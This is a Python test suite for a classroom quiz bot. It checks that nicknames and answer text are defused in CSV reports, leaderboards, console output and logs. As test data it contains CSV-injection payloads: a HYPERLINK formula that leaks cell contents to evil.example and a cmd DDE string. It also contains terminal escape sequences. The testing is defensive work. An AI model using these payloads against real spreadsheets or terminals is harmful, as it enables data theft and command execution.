"""Other people's text in CSV cells, leaderboards and terminals: no formula, no control character."""

import csv
import io
from dataclasses import replace

from hypothesis import given, settings
from hypothesis import strategies as st

from bot.features.class_report import report_csv
from bot.storage.classroom import ClassAnswer, Player, Session
from bot.text_safety import csv_cell, one_line, unsafe_characters, visible
from quizzes import Bank

# What a spreadsheet (Excel, LibreOffice, Google Sheets) may evaluate: a first character (after
# spaces) among these, per OWASP's CSV injection page; written out here, not taken from the module.
EVALUATED = set("=+-@\t\r＝＋－＠")
CONTROL = {chr(c) for c in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]}
BIDI = {"\u061c", "\u200e", "\u200f", *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))}
NASTY = st.sampled_from(
    [
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        "\n",
        "\x1b[2J",
        "\x07",
        "\u202e",
        "\u2066",
        "＝",
        "\x85",
        '"',
        ",",
        " =",
    ]
)
TEXT = st.lists(st.one_of(NASTY, st.text(max_size=6)), max_size=6).map("".join)
FORMULA = '=HYPERLINK("http://evil.example/?"&D2&D3&D4,"詳しくはこちら")'


def evaluated(cell: str) -> bool:
    stripped = cell.lstrip(" \u3000")
    return bool(stripped) and stripped[0] in EVALUATED


def session(item_id: str) -> Session:
    return Session(
        1, "test", "-7", "t", "", "deck", "", "", (item_id,), 20, False, 0, "finished", 1, 1, "", 0.0, "", ""
    )


def report(bank: Bank, nickname: str, choice: str) -> list[list[str]]:
    """The CSV report of one answer by a player called `nickname` who picked a choice reading `choice`."""
    item = next(i for i in bank.items.values() if i.kind != "judge")
    choices = tuple(replace(c, ja=choice, en=choice) if n == 0 else c for n, c in enumerate(item.choices))
    shared = replace(bank, items={item.id: replace(item, choices=choices)})
    players = [Player("u1", 1, nickname, 0)]
    answers = [ClassAnswer(1, "u1", 0, False, 1500, 0)]
    return list(csv.reader(io.StringIO(report_csv(shared, session(item.id), players, answers, "ja"))))


@settings(max_examples=1000, deadline=None)
@given(nickname=TEXT, cell=TEXT)
def test_generated_nicknames_and_cells_never_make_a_formula_or_a_control_character(
    bank: Bank, nickname: str, cell: str
) -> None:
    rows = report(bank, nickname, cell)
    assert len(rows) == 2
    for value in rows[1]:
        assert not evaluated(value), value
        assert not (set(value) & (CONTROL | BIDI | {"\n"})), value
    for shown in (visible(nickname), one_line(cell)):
        assert not (set(shown) & (CONTROL | BIDI)), shown
    assert "\n" not in one_line(cell)


def test_the_audit_s_hyperlink_deck_and_nicknames_come_out_as_text(bank: Bank) -> None:
    for nickname in ("=1+1", "-2+3", "@SUM(A1)", "+cmd|' /C calc'!A0", "\t=x", "＝1+1"):
        row = report(bank, nickname, FORMULA)[1]
        assert row[3] == "'" + nickname.strip("\t") and row[5] == "'" + FORMULA


def test_plain_text_and_numbers_are_unchanged() -> None:
    assert csv_cell("パンダ") == "パンダ" and csv_cell(-3) == -3 and csv_cell(1.5) == 1.5
    assert csv_cell("a\nb") == "a b"


def test_visible_keeps_line_breaks_and_tabs_and_drops_the_rest() -> None:
    assert visible("a\r\nb\tc\x1b[31md\u202ee\x07") == "a\nb\tc[31mde"
    assert one_line(" a\n\nb\tc ") == "a b c"
    assert unsafe_characters("ok\x1b\u202e\x1b\r\n") == ["U+001B", "U+202E"]


ESCAPES = "\x1b]0;pwned\x07\x1b[2J\u202eevil\x9b"


def shows_no_control(text: str) -> bool:
    return not (set(text) & (CONTROL | BIDI))


async def test_a_nickname_with_escapes_reaches_no_leaderboard_or_report(chatter, bank) -> None:
    from bot.core.events import ChatKind, QuizPoll

    group = replace(chatter, chat_id="-9", chat_kind=ChatKind.GROUP)
    pupil = replace(group, user_id="p-1")
    teacher = replace(group, user_id="t-1", is_admin=True)
    await pupil.command("nickname", f"ふく{ESCAPES}ろう")
    [poll] = [
        m
        for m in await teacher.command("quiz", "1 10s region=札幌\x1b[2J\u202eX\x07")
        if isinstance(m, QuizPoll)
    ]
    await pupil.press(poll.buttons[0][0].payload)
    chatter.app.engine.services.clock.advance(seconds=11)
    await chatter.app.tick(wait=True)
    db = chatter.app.store.db
    [(nickname,)] = db.execute("SELECT nickname FROM class_players").fetchall()
    [(region,)] = db.execute("SELECT region FROM class_sessions").fetchall()
    assert nickname.startswith("ふく") and shows_no_control(nickname) and shows_no_control(region)
    shown = [getattr(m, "text", "") or "" for m in chatter.adapter.sent]
    shown += [m.data.decode() for m in chatter.adapter.sent if hasattr(m, "data")]
    assert any("ふく" in text for text in shown) and all(shows_no_control(text) for text in shown)


def test_a_stored_nickname_from_before_is_cleaned_on_the_way_out() -> None:
    from bot.features.class_summary import label

    assert label(Player("u", 3, f"a{ESCAPES}b", 0), "ja") == "a]0;pwned[2Jevilb"
    assert label(Player("u", 3, "\x1b\u202e", 0), "ja") == "参加者 3"


async def test_the_console_shows_no_escape_sequence() -> None:
    from bot.adapters.console.adapter import ConsoleAdapter
    from bot.core.events import Button, ChatRef, Message

    out = io.StringIO()
    console = ConsoleAdapter(stdin=io.StringIO(""), stdout=out)
    await console.send(
        Message(chat=ChatRef("console", "c"), text=f"Q{ESCAPES}", buttons=((Button(ESCAPES, "x"),),))
    )
    assert shows_no_control(out.getvalue().replace("\n", "")) and "evil" in out.getvalue()


def test_log_lines_carry_no_escape_sequence() -> None:
    from bot.log_setup import scrub

    assert scrub(f"user said {ESCAPES}\nnext line") == "user said ]0;pwned[2Jevil\nnext line"
